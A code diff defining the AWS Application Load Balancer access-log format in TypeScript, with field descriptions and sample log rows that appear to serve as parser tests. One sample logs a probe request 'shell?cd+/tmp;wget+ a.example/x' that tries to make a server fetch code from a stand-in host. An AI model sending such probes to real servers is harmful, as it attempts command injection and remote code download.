@@ -1,0 +1,343 @@
+import { defineFormat } from './define-format.ts'
+
+const AWS_PAGE =
+  'https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-access-logs.html#access-log-entry-format'
+
+const TIMES_ABSENT = ['-1', '-'] as const
+
+/** `since` is the earliest dated row or page that has the field. */
+export const alb = defineFormat({
+  id: 'alb',
+  title: 'Application Load Balancer access log',
+  source: AWS_PAGE,
+  rowIs: 'one request',
+  leastFields: 17,
+  required: ['time', 'elb', 'elb_status_code'],
+  fields: [
+    {
+      name: 'type',
+      kind: 'text',
+      meaning: 'Kind of request: http, https, h2 (HTTP/2 over TLS), grpcs, ws or wss.',
+    },
+    {
+      name: 'time',
+      kind: 'time',
+      signature: /^\d{4}-/,
+      meaning: 'When the load balancer produced the response (WebSocket: when the connection closed), UTC.',
+    },
+    { name: 'elb', kind: 'text', signature: /\//, meaning: 'The load balancer, as app/NAME/ID.' },
+    {
+      name: 'client:port',
+      kind: 'endpoint',
+      keys: ['client_port', 'client'],
+      signature: /:|^-$/,
+      meaning: 'Who connected to the load balancer. With a proxy or CDN in front, that one.',
+    },
+    {
+      name: 'target:port',
+      kind: 'endpoint',
+      keys: ['target_port', 'target'],
+      signature: /:|^-$/,
+      meaning:
+        'The target that was picked. `-`: none was (no target registered, request rejected, answered by a rule, or a Lambda target).',
+    },
+    {
+      name: 'request_processing_time',
+      kind: 'seconds',
+      absent: TIMES_ABSENT,
+      signature: /^-?\d/,
+      meaning: 'Seconds from receiving the request until it was sent to a target. -1: it was never handed over.',
+    },
+    {
+      name: 'target_processing_time',
+      kind: 'seconds',
+      absent: TIMES_ABSENT,
+      signature: /^-?\d/,
+      meaning:
+        'Seconds from sending to the target until its response headers began (without WAF, a slow upload counts here). -1: no answer.',
+    },
+    {
+      name: 'response_processing_time',
+      kind: 'seconds',
+      absent: TIMES_ABSENT,
+      signature: /^-?\d/,
+      meaning:
+        'Seconds from receiving the response headers until sending to the client began. -1: no response from the target.',
+    },
+    {
+      name: 'elb_status_code',
+      kind: 'status',
+      signature: /^(\d{3}|-)$/,
+      meaning: 'The status the client got.',
+    },
+    {
+      name: 'target_status_code',
+      kind: 'status',
+      signature: /^(\d{3}|-)$/,
+      meaning: 'The status the target sent. `-`: the target never answered; the load balancer wrote the status itself.',
+    },
+    {
+      name: 'received_bytes',
+      kind: 'integer',
+      meaning: 'Bytes from the client, headers included.',
+    },
+    {
+      name: 'sent_bytes',
+      kind: 'integer',
+      meaning: 'Bytes to the client, headers included.',
+    },
+    {
+      name: 'request',
+      kind: 'text',
+      quoted: true,
+      keys: ['request_line'],
+      meaning: 'Method, address and version as the client sent them. May be malformed.',
+    },
+    { name: 'user_agent', kind: 'text', quoted: true, meaning: 'What the client says it is; cut at 8 KB.' },
+    { name: 'ssl_cipher', kind: 'text', meaning: 'TLS cipher between client and load balancer; `-` without TLS.' },
+    { name: 'ssl_protocol', kind: 'text', meaning: 'TLS version between client and load balancer; `-` without TLS.' },
+    {
+      name: 'target_group_arn',
+      kind: 'arn',
+      meaning: 'The target group that was chosen; `-`: none was.',
+    },
+    {
+      name: 'trace_id',
+      kind: 'text',
+      quoted: true,
+      since: '2016-11',
+      meaning: 'X-Amzn-Trace-Id: the target got the same header, so it joins this row with the application log.',
+    },
+    {
+      name: 'domain_name',
+      kind: 'text',
+      quoted: true,
+      since: '2016-12',
+      meaning: 'Host name the client asked for in the TLS handshake (SNI).',
+    },
+    {
+      name: 'chosen_cert_arn',
+      kind: 'text',
+      quoted: true,
+      since: '2016-12',
+      meaning: 'Certificate shown to the client, or session-reused.',
+    },
+    {
+      name: 'matched_rule_priority',
+      kind: 'integer',
+      since: '2018-09',
+      meaning:
+        'Listener rule that matched: 1 to 50000, 0 the default rule, -1 an error while evaluating, `-` none evaluated.',
+    },
+    {
+      name: 'request_creation_time',
+      kind: 'time',
+      since: '2018-09',
+      meaning:
+        'When the load balancer received the request, UTC. time minus this is the elapsed time; it survives -1 -1 -1.',
+    },
+    {
+      name: 'actions_executed',
+      kind: 'text',
+      quoted: true,
+      since: '2018-09',
+      meaning:
+        'What the rule did, in order: authenticate, fixed-response, forward, redirect, rewrite, waf, waf-failed. `-`: nothing.',
+    },
+    {
+      name: 'redirect_url',
+      kind: 'text',
+      quoted: true,
+      since: '2018-09',
+      meaning: 'Location of a redirect action.',
+    },
+    {
+      name: 'error_reason',
+      kind: 'text',
+      quoted: true,
+      since: '2018-11',
+      keys: ['lambda_error_reason'],
+      meaning: 'Code for failures of authentication, JWT, Lambda or WAF. `-` for ordinary 502, 503 and 504.',
+    },
+    {
+      name: 'target:port_list',
+      kind: 'text',
+      quoted: true,
+      since: '2020-06',
+      keys: ['target_port_list'],
+      meaning: 'Targets that were tried; today at most one.',
+    },
+    {
+      name: 'target_status_code_list',
+      kind: 'text',
+      quoted: true,
+      since: '2020-06',
+      meaning: 'Statuses the targets sent; today at most one. Must agree with target_status_code.',
+    },
+    {
+      name: 'classification',
+      kind: 'text',
+      quoted: true,
+      since: '2020-08',
+      meaning: 'Desync check of the request: Acceptable, Ambiguous or Severe; `-` when it complies with RFC 7230.',
+    },
+    {
+      name: 'classification_reason',
+      kind: 'text',
+      quoted: true,
+      since: '2020-08',
+      meaning: 'Code that says why.',
+    },
+    {
+      name: 'conn_trace_id',
+      kind: 'text',
+      since: '2024-05',
+      meaning: "The client's connection: joins with the connection log.",
+    },
+    {
+      name: 'transformed_host',
+      kind: 'text',
+      quoted: true,
+      since: '2025-10',
+      meaning: 'Host after a rewrite rule.',
+    },
+    {
+      name: 'transformed_uri',
+      kind: 'text',
+      quoted: true,
+      since: '2025-10',
+      meaning: 'URI after a rewrite rule.',
+    },
+    {
+      name: 'request_transform_status',
+      kind: 'text',
+      quoted: true,
+      since: '2025-10',
+      meaning: 'Whether the rewrite worked: TransformSuccess or an error code.',
+    },
+    {
+      name: 'ip_address',
+      kind: 'address',
+      since: '2026-07',
+      meaning: 'Address of the load balancer node that served the request. Each node keeps its own connections.',
+    },
+    {
+      name: 'target_error_code',
+      kind: 'hex',
+      since: '2026-08',
+      meaning: 'HTTP/2 RST_STREAM code that the target sent (when forwarding of such errors is on).',
+    },
+    {
+      name: 'elb_error_code',
+      kind: 'hex',
+      since: '2026-08',
+      meaning: 'HTTP/2 RST_STREAM code that the load balancer sent.',
+    },
+  ],
+  samples: [
+    {
+      title: 'a normal row of 34 fields',
+      line: 'https 2026-11-23T02:18:54.962585Z app/shop/7e13d860e39e867e 203.0.113.18:41759 10.28.1.1:8000 0.002 0.013 0.001 200 200 120 865 "GET https://www.shop.example:443/api/products/3125?page=2 HTTP/1.1" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/8303171796b72fc3 "Root=1-6b03a28e-0d6218ce8c2c0888cbb4f728" "www.shop.example" "session-reused" 0 2026-11-23T02:18:54.944000Z "forward" "-" "-" "10.28.1.1:8000" "200" "-" "-" TID_ac8b8ac1e811492da5ac580ca5225efa "-" "-" "-" 10.28.0.11',
+      fields: 34,
+      expect: {
+        type: 'https',
+        elb: 'app/shop/7e13d860e39e867e',
+        'target:port': '10.28.1.1:8000',
+        target_processing_time: '0.013',
+        elb_status_code: '200',
+        target_status_code: '200',
+        request: 'GET https://www.shop.example:443/api/products/3125?page=2 HTTP/1.1',
+        actions_executed: 'forward',
+        redirect_url: undefined,
+        ip_address: '10.28.0.11',
+        elb_error_code: undefined,
+      },
+    },
+    {
+      title: 'no target registered: target is absent, the target group is known',
+      line: 'http 2026-11-23T02:19:59.646366Z app/k8s-bi-reports-0a9b8c7d6e/7e13d860e39e867e 203.0.113.38:39833 - -1 -1 -1 503 - 127 337 "GET http://www.shop.example:80/api/products/1591 HTTP/1.1" "python-requests/2.32.3" - - arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/k8s-bi-reports-0a9b8c7d6e/bda7e7a9f7215291 "Root=1-6b03a2cf-4fc1e4d7cde1d5f0db409f0a" "-" "-" 0 2026-11-23T02:19:59.645000Z "forward" "-" "-" "-" "-" "-" "-" TID_f7f5d68851a56504fd843d8521a3fc7b "-" "-" "-" 10.37.0.11',
+      fields: 34,
+      expect: {
+        'target:port': undefined,
+        request_processing_time: undefined,
+        elb_status_code: '503',
+        target_status_code: undefined,
+        actions_executed: 'forward',
+      },
+    },
+    {
+      title: 'an escaped quote, an escaped backslash and a letter outside ASCII',
+      line: 'h2 2026-11-23T02:18:55.544366Z app/shop/7e13d860e39e867e 203.0.113.28:42049 10.37.1.2:30080 0.001 0.030 0.000 200 200 205 971 "GET https://www.shop.example:443/search?q=\\x22a\\x5Cb\\x22 HTTP/2.0" "ShopApp/7.3.1 \\x22beta\\x22 \\xEC\\x97\\x90" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/bda7e7a9f7215291 "Root=1-6b03a28f-57645c78ebaa22e7412f1163" "www.shop.example" "arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2026-11-23T02:18:55.512000Z "waf,forward" "-" "-" "10.37.1.2:30080" "200" "-" "-" TID_4a444285938200bcb36fc8d7349f1bdc',
+      fields: 30,
+      expect: {
+        request: 'GET https://www.shop.example:443/search?q="a\\b" HTTP/2.0',
+        user_agent: 'ShopApp/7.3.1 "beta" 에',
+        actions_executed: 'waf,forward',
+        transformed_host: undefined,
+      },
+    },
+    {
+      title: 'IPv6 without brackets',
+      line: 'https 2025-07-02T22:23:00.186641Z app/shop/7e13d860e39e867e 2001:db8:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.1:80 0.000 0.012 0.000 200 200 34 366 "GET https://www.shop.example:443/ HTTP/1.1" "curl/8.5.0" - - - "-" "-" "-" 0 2025-07-02T22:23:00.174000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_4a444285938200bcb36fc8d7349f1bdc',
+      fields: 30,
+      expect: { 'client:port': '2001:db8:4538:1:bcf4:5264:e01c:f215:50718', elb_status_code: '200' },
+    },
+    {
+      title: 'a row of 2016: 20 fields, the last two without quotes',
+      line: 'http 2016-08-10T22:08:42.945958Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" - -',
+      fields: 20,
+      expect: { trace_id: 'Root=1-58337262-36d228ad5d99923122bbe354', domain_name: undefined, error_reason: undefined },
+    },
+    {
+      title: 'a row of 2016 with 18 fields',
+      line: 'http 2016-11-21T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.001 4.205 -1 502 - 94 326 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354"',
+      fields: 18,
+      expect: {
+        request_processing_time: '0.001',
+        response_processing_time: undefined,
+        target_status_code: undefined,
+        actions_executed: undefined,
+      },
+    },
+    {
+      title: 'a row from the future with 40 fields: what follows the last known one is kept',
+      line: 'grpcs 2027-11-23T02:18:54.962585Z app/shop/7e13d860e39e867e 203.0.113.18:41759 10.28.1.1:8000 0.002 0.013 -1 502 - 120 865 "POST https://www.shop.example:443/cart.Cart/Add HTTP/2.0" "grpc-go/1.70" - - arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/8303171796b72fc3 "Root=1-6b03a28e-0d6218ce8c2c0888cbb4f728" "-" "-" 0 2027-11-23T02:18:54.944000Z "forward" "-" "-" "10.28.1.1:8000" "-" "-" "-" TID_ac8b8ac1e811492da5ac580ca5225efa "-" "-" "-" 10.28.0.11 0x8 - "new field" 17 - -',
+      fields: 40,
+      expect: { type: 'grpcs', target_error_code: '0x8', elb_error_code: undefined, ip_address: '10.28.0.11' },
+    },
+    {
+      title: 'a malformed request: no method, no address, nothing evaluated',
+      line: 'http 2025-05-02T22:23:00.186641Z app/shop/7e13d860e39e867e 203.0.113.7:40120 - -1 -1 -1 400 - 0 272 "- http://shop-1234.eu-west-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2025-05-02T22:23:00.185000Z "-" "-" "-" "-" "-" "-" "-" TID_ac8b8ac1e811492da5ac580ca5225efa',
+      fields: 30,
+      expect: {
+        request: '- http://shop-1234.eu-west-1.elb.amazonaws.com:80- -',
+        user_agent: undefined,
+        target_group_arn: undefined,
+        matched_rule_priority: undefined,
+        elb_status_code: '400',
+      },
+    },
+    {
+      title: 'spaces in the URL stay in the request line',
+      line: 'http 2025-05-02T22:23:00.186641Z app/shop/7e13d860e39e867e 203.0.113.7:40120 10.0.0.1:80 0.000 0.002 0.000 404 404 210 366 "GET http://203.0.113.9:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "-" - - arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/8303171796b72fc3 "Root=1-6814f9b4-0d6218ce8c2c0888cbb4f728" "-" "-" 0 2025-05-02T22:23:00.184000Z "forward" "-" "-" "10.0.0.1:80" "404" "Acceptable" "SpaceInUri" TID_ac8b8ac1e811492da5ac580ca5225efa',
+      fields: 30,
+      expect: {
+        request: 'GET http://203.0.113.9:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1',
+        classification_reason: 'SpaceInUri',
+      },
+    },
+    {
+      title: 'a WebSocket of a type that nobody documented yet',
+      line: 'wss3 2026-11-23T02:18:54.962585Z app/shop/7e13d860e39e867e 203.0.113.18:41759 10.28.1.1:8000 0.002 0.013 0.001 101 101 120 865 "GET wss://www.shop.example:443/live HTTP/1.1" "ShopApp/7.3.1" - - arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/8303171796b72fc3 "Root=1-6b03a28e-0d6218ce8c2c0888cbb4f728" "-" "-" 0 2026-11-23T02:17:54.944000Z "forward" "-" "-" "10.28.1.1:8000" "101" "-" "-" TID_ac8b8ac1e811492da5ac580ca5225efa',
+      fields: 30,
+      expect: { type: 'wss3', elb_status_code: '101' },
+    },
+    {
+      title: 'a row cut in the middle of the user agent',
+      line: 'http 2026-11-23T02:18:55.013508Z app/shop/7e13d860e39e867e 203.0.113.13:42427 10.35.1.1:8080 0.002 0.020 0.001 200 200 228 562 "GET http://www.shop.example:80/ HTTP/1.1" "Mozilla/5.0 (iPho',
+      fields: 14,
+      expect: { elb_status_code: '200', user_agent: 'Mozilla/5.0 (iPho' },
+      isCut: true,
+    },
+  ],
+})
